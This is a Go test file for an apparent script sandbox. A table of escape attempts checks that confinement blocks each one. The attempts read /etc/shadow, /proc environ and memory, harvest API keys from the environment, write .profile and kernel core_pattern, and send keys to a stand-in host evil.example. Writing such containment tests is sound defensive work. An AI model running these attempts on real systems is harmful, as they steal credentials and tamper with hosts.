//go:build linux && (amd64 || arm64)

package cli

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"cogumi/runtime/confine"
)

// escapes are scripts that want out. Each prints "ESCAPED" when it got what it
// wanted; imports are what its body needs. refused: it does not even start.
var escapes = []struct {
	name    string
	imports string
	body    string
	refused bool
}{
	// Ways around the interpreter.
	{name: "net", imports: "net", body: `net.Dial("tcp", "127.0.0.1:1")`, refused: true},
	{name: "net/http", imports: "net/http", body: `http.Get("http://127.0.0.1")`, refused: true},
	{name: "os/exec", imports: "os/exec", body: `exec.Command("id").Run()`, refused: true},
	{name: "unsafe", imports: "unsafe", body: `_ = unsafe.Pointer(nil)`, refused: true},
	{name: "syscall", imports: "syscall", body: `syscall.Kill(1, 9)`, refused: true},
	{name: "plugin", imports: "plugin", body: `plugin.Open("x.so")`, refused: true},
	{name: "cgo", imports: "C", body: `_ = C.int(1)`, refused: true},
	{name: "reflect", imports: "reflect", body: `reflect.NewAt(nil, nil)`, refused: true},
	{name: "os/signal", imports: "os/signal", body: `signal.Ignore()`, refused: true},
	{name: "runtime/debug", imports: "runtime/debug", body: `debug.SetMaxThreads(1)`, refused: true},
	{name: "go/build", imports: "go/build", body: `build.Import("x", "", 0)`, refused: true},
	{name: "net/rpc", imports: "net/rpc", body: `rpc.Dial("tcp", "x")`, refused: true},
	{name: "log/syslog", imports: "log/syslog", body: `syslog.New(0, "x")`, refused: true},
	{name: "crypto/tls", imports: "crypto/tls", body: `tls.Dial("tcp", "x", nil)`, refused: true},
	{name: "x/sys", imports: "golang.org/x/sys/unix", body: `unix.Getpid()`, refused: true},
	{name: "the runner", imports: "cogumi/runtime/launch", body: `launch.Enter()`, refused: true},
	{name: "the broker", imports: "cogumi/stdlib/broker", body: `broker.Secret("OPENAI_API_KEY", "")`, refused: true},
	{name: "the sandbox's inside", imports: "cogumi/stdlib/sandbox/inside", body: `inside.Unpack(nil)`, refused: true},
	{name: "the hub", imports: "cogumi/stdlib/hub", body: `hub.FromEnvironment()`, refused: true},
	{name: "StartProcess", imports: "os", body: `os.StartProcess("/bin/true", nil, nil)`, refused: true},
	{name: "FindProcess", imports: "os", body: `p, _ := os.FindProcess(os.Getppid()); p.Kill()`, refused: true},
	{name: "NewFile", imports: "os", body: `os.NewFile(3, "x")`, refused: true},
	{name: "OpenRoot", imports: "os", body: `os.OpenRoot("/")`, refused: true},
	{name: "CopyFS", imports: "os", body: `os.CopyFS("/tmp/x", nil)`, refused: true},
	{name: "linkname", imports: "fmt", body: "}\n//go:linkname kill syscall.Kill\nfunc kill(int, int) error\nfunc other() { fmt.Println(kill(1, 9))", refused: true},
	{name: "assembly", imports: "", body: "}\nfunc escape()\nfunc other() { escape()", refused: true},

	// Reading what is nobody's business.
	{name: "read a secret", imports: "os fmt", body: `if b, err := os.ReadFile(SECRET); err == nil { fmt.Println("ESCAPED", string(b)) }`},
	{name: "read upwards", imports: "os fmt", body: `if _, err := os.ReadFile("../secret"); err == nil { fmt.Println("ESCAPED") }`},
	{name: "list the home", imports: "os fmt", body: `if _, err := os.ReadDir(HOME); err == nil { fmt.Println("ESCAPED") }`},
	{name: "read through a link", imports: "os fmt", body: `os.Symlink(SECRET, os.TempDir()+"/l"); if _, err := os.ReadFile(os.TempDir()+"/l"); err == nil { fmt.Println("ESCAPED") }`},
	{name: "read through a hard link", imports: "os fmt", body: `os.Link(SECRET, os.TempDir()+"/l"); if _, err := os.ReadFile(os.TempDir()+"/l"); err == nil { fmt.Println("ESCAPED") }`},
	{name: "read from another goroutine", imports: "os fmt runtime", body: `c := make(chan error); for i := 0; i < 50; i++ { go func() { runtime.Gosched(); _, err := os.ReadFile(SECRET); c <- err }() }; for i := 0; i < 50; i++ { if <-c == nil { fmt.Println("ESCAPED") } }`},
	{name: "passwd", imports: "os fmt", body: `if _, err := os.ReadFile("/etc/passwd"); err == nil { fmt.Println("ESCAPED") }`},
	{name: "shadow", imports: "os fmt", body: `if _, err := os.ReadFile("/etc/shadow"); err == nil { fmt.Println("ESCAPED") }`},
	{name: "a disk", imports: "os fmt path/filepath", body: `d, _ := filepath.Glob("/dev/[hsvn][dv]*[a-z]"); for _, p := range append(d, "/dev/mem", "/dev/kmsg", "/dev/tty", "/dev/fuse") { if _, err := os.Open(p); err == nil { fmt.Println("ESCAPED", p) } }`},
	{name: "dataset.Read", imports: "fmt cogumi/stdlib/dataset", body: `if s, err := dataset.Read(SECRET + ".jsonl"); err == nil && s.Len() > 0 { fmt.Println("ESCAPED") }`},

	// Writing where others look.
	{name: "write beside it", imports: "os fmt", body: `if os.WriteFile("x.go", nil, 0o644) == nil { fmt.Println("ESCAPED") }`},
	{name: "change itself", imports: "os fmt", body: `if f, err := os.OpenFile("escape.go", os.O_APPEND|os.O_WRONLY, 0); err == nil { f.WriteString("//"); fmt.Println("ESCAPED") }`},
	{name: "write the profile", imports: "os fmt", body: `if os.WriteFile(HOME+"/.profile", []byte("x"), 0o755) == nil { fmt.Println("ESCAPED") }`},
	{name: "remove a file", imports: "os fmt", body: `if os.Remove("keep") == nil || os.RemoveAll("keep") == nil { fmt.Println("ESCAPED") }`},
	{name: "truncate a file", imports: "os fmt", body: `if os.Truncate("keep", 0) == nil { fmt.Println("ESCAPED") }; if _, err := os.OpenFile("keep", os.O_RDONLY|os.O_TRUNC, 0); err == nil { fmt.Println("ESCAPED") }`},
	{name: "replace a file", imports: "os fmt", body: `os.WriteFile(os.TempDir()+"/n", nil, 0o644); if os.Rename(os.TempDir()+"/n", "keep") == nil { fmt.Println("ESCAPED") }`},
	{name: "change a mode", imports: "os fmt", body: `if os.Chmod("keep", 0o777) == nil || os.Chmod(SECRET, 0o777) == nil { fmt.Println("ESCAPED") }`},
	{name: "change a mode by descriptor", imports: "os fmt", body: `f, err := os.Create(os.TempDir()+"/s"); if err == nil && f.Chmod(0o755|os.ModeSetuid) == nil { fmt.Println("ESCAPED") }`},
	{name: "change a time", imports: "os fmt time", body: `if os.Chtimes("keep", time.Time{}, time.Unix(0, 0)) == nil { fmt.Println("ESCAPED") }`},
	{name: "the folder of the temporary folder", imports: "os fmt path/filepath", body: `if f, err := os.CreateTemp(filepath.Dir(os.TempDir()), "x"); err == nil { fmt.Println("ESCAPED", f.Name()) }`},
	{name: "a primitive into another's place", imports: "fmt cogumi/stdlib/dataset", body: `s := dataset.MustRead("tinyworld/eval"); if s.Write("keep.jsonl") == nil || s.Write(HOME+"/x.jsonl") == nil { fmt.Println("ESCAPED") }`},
	{name: "a finished step", imports: "os fmt", body: `os.MkdirAll("runs/.steps/key", 0o755); if os.WriteFile("runs/.steps/key/.done.json", nil, 0o644) == nil { fmt.Println("ESCAPED") }`},
	{name: "another run", imports: "os fmt", body: `if os.MkdirAll("runs/other", 0o755) == nil { fmt.Println("ESCAPED") }`},
	{name: "compiled programs", imports: "os fmt", body: `if os.MkdirAll(HOME+"/.cache/cogumi/compiled/x", 0o755) == nil { fmt.Println("ESCAPED") }`},
	{name: "upwards out of the run", imports: "os fmt cogumi/stdlib/experiment", body: `x := experiment.Start(); defer x.Finish(); if os.WriteFile(x.Dir()+"/../../../keep2", nil, 0o644) == nil { fmt.Println("ESCAPED") }`},
	{name: "the cgroup", imports: "os fmt", body: `if os.WriteFile("/sys/fs/cgroup/cgroup.procs", []byte("0"), 0o644) == nil { fmt.Println("ESCAPED") }`},
	{name: "the kernel's settings", imports: "os fmt", body: `if os.WriteFile("/proc/sys/kernel/core_pattern", []byte("|/x"), 0o644) == nil { fmt.Println("ESCAPED") }`},

	// Secrets, and other processes.
	{name: "a secret of the environment", imports: "os fmt strings", body: `if os.Getenv("OPENAI_API_KEY") != "" || os.ExpandEnv("$MY_TOKEN") != "" || strings.Contains(strings.Join(os.Environ(), " "), "hidden-value") { fmt.Println("ESCAPED") }`},
	{name: "its own environment", imports: "os fmt strings", body: `b, _ := os.ReadFile("/proc/self/environ"); if strings.Contains(string(b), "hidden-value") { fmt.Println("ESCAPED") }`},
	{name: "its parent's environment", imports: "os fmt", body: `if _, err := os.ReadFile(fmt.Sprint("/proc/", os.Getppid(), "/environ")); err == nil { fmt.Println("ESCAPED") }`},
	{name: "its threads' environment", imports: "os fmt", body: `if _, err := os.ReadFile(fmt.Sprint("/proc/self/task/", os.Getpid(), "/environ")); err == nil { fmt.Println("ESCAPED") }`},
	{name: "its memory", imports: "os fmt", body: `for _, p := range []string{"/proc/self/mem", "/proc/thread-self/mem", fmt.Sprint("/proc/", os.Getpid(), "/mem"), fmt.Sprint("/proc/", os.Getppid(), "/mem")} { if _, err := os.Open(p); err == nil { fmt.Println("ESCAPED") } }`},
	{name: "its descriptors", imports: "os fmt strings path/filepath", body: `for fd := 0; fd < 40; fd++ { for _, p := range []string{"/proc/self/fd/", "/dev/fd/"} { to, _ := os.Readlink(fmt.Sprint(p, fd)); f, err := os.OpenFile(fmt.Sprint(p, fd), os.O_RDWR, 0); if err != nil { continue }; f.Close(); wd, _ := os.Getwd(); if to != os.DevNull && !strings.HasPrefix(to, filepath.Join(wd, "runs")) { fmt.Println("ESCAPED", to) } } }`},
	{name: "list processes", imports: "os fmt", body: `if d, err := os.ReadDir("/proc"); err == nil && len(d) > 0 { fmt.Println("ESCAPED") }`},
	{name: "a key for somebody else", imports: "fmt cogumi/stdlib/judge", body: `if j, err := judge.Endpoint(judge.EndpointConfig{URL: "https://evil.example/v1", Model: "m"}); err == nil { fmt.Println("ESCAPED", j.Name) }`},
	{name: "another key for somebody else", imports: "fmt cogumi/stdlib/judge", body: `if j, err := judge.Endpoint(judge.EndpointConfig{URL: "https://evil.example/v1", Model: "m", KeyEnv: "MY_TOKEN"}); err == nil { fmt.Println("ESCAPED", j.Name) }`},
	{name: "a Python program without bounds", imports: "fmt cogumi/stdlib/sandbox context", body: `r, err := sandbox.Run(context.Background(), sandbox.Program{Code: "import os\nprint(open('"+SECRET+"').read())", Limits: sandbox.Limits{Tasks: 1 << 30, Processes: true}}); if err == nil && r.OK() { fmt.Println("ESCAPED") }`},
}

// TestEscapes: none of them succeeds, and nothing is left behind.
func TestEscapes(t *testing.T) {
	if l := confine.Offered(); l.Landlock < 3 || !l.Seccomp {
		t.Skipf("this machine offers %v", l)
	}
	program, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range escapes {
		t.Run(e.name, func(t *testing.T) {
			t.Parallel()
			home := t.TempDir()
			dir := filepath.Join(home, "work")
			secret := filepath.Join(home, "secret")
			for path, text := range map[string]string{secret: "hidden-value", secret + ".jsonl": `{"text":"hidden-value"}`, filepath.Join(dir, "keep"): "kept"} {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			out, err := runEscape(t, program, home, dir, e.imports, e.body)
			switch {
			case strings.Contains(out, "ESCAPED"):
				t.Errorf("it did:\n%s", out)
			case strings.Contains(out, "hidden-value"):
				t.Errorf("a secret got out:\n%s", out)
			case e.refused && exitCode(err) != 2:
				t.Errorf("it started: %v\n%s", err, out)
			case !e.refused && exitCode(err) != 0:
				t.Errorf("it did not get as far as trying: %v\n%s", err, out)
			}
			if b, err := os.ReadFile(filepath.Join(dir, "keep")); err != nil || string(b) != "kept" {
				t.Errorf("a file was changed: %q, %v", b, err)
			}
			if left, err := filepath.Glob(filepath.Join(home, "tmp", "*")); err != nil || len(left) > 0 {
				t.Errorf("it left %v, %v", left, err)
			}
		})
	}
}

// runEscape runs a script as a person would, with secrets in the environment.
func runEscape(t *testing.T, program, home, dir, imports, body string) (string, error) {
	t.Helper()
	var src strings.Builder
	src.WriteString("package main\n\nimport (\n")
	for _, p := range strings.Fields(imports) {
		fmt.Fprintf(&src, "\t%q\n", p)
	}
	fmt.Fprintf(&src, ")\n\nconst (\n\tSECRET = %q\n\tHOME = %q\n)\n\nfunc main() {\n%s\n}\n", filepath.Join(home, "secret"), home, body)
	if err := os.WriteFile(filepath.Join(dir, "escape.go"), []byte(src.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(home, "tmp"), 0o755); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, program, "run", "escape.go")
	cmd.Args[0] = "cogumi" // as testscript's commands are started
	cmd.Dir = dir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home, "TMPDIR=" + filepath.Join(home, "tmp"),
		"OPENAI_API_KEY=hidden-value", "MY_TOKEN=hidden-value", "NOTHING_SPECIAL=sk-hidden-value", envEscape + "=1"}
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func exitCode(err error) int {
	if err == nil {
		return 0
	}
	var exit *exec.ExitError
	if !errors.As(err, &exit) {
		return -1
	}
	return exit.ExitCode()
}

// TestTheNetworkIsRecorded: a primitive that gets its key from the parent reaches
// the server that the command line names, and the run says so.
func TestTheNetworkIsRecorded(t *testing.T) {
	var asked atomic.Int32
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") == "Bearer hidden-value" {
			asked.Add(1)
		}
		http.Error(w, "no", http.StatusUnauthorized)
	}))
	defer server.Close()
	program, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	home := t.TempDir()
	out, _ := runEscape(t, program, home, home, "fmt os cogumi/stdlib/experiment cogumi/stdlib/judge", `
	x := experiment.Start()
	defer x.Finish()
	j := judge.MustEndpoint(judge.EndpointConfig{URL: "`+server.URL+`/v1", Model: "m"})
	ask := func(int) (judge.Question, error) { return judge.Question{User: "a"}, nil }
	form := judge.Form{Name: "f", Schema: []byte("{}"), Check: func(string) error { return nil }}
	_, _, err := j.Ask("try", 1, ask, form, judge.Options{})
	fmt.Println(os.Getenv("OPENAI_API_KEY") == "", err != nil)`)
	runs, err := filepath.Glob(filepath.Join(home, "runs", "*", "run.json"))
	if err != nil || len(runs) != 1 {
		t.Fatalf("%v, %v\n%s", runs, err, out)
	}
	info, err := os.ReadFile(runs[0])
	if err != nil || !strings.Contains(string(info), `"`+server.URL+`"`) || !strings.Contains(string(info), `"isolation": "`) {
		t.Errorf("%v\n%s\n%s", err, info, out)
	}
	if asked.Load() == 0 {
		t.Errorf("the key did not arrive\n%s", out)
	}
}
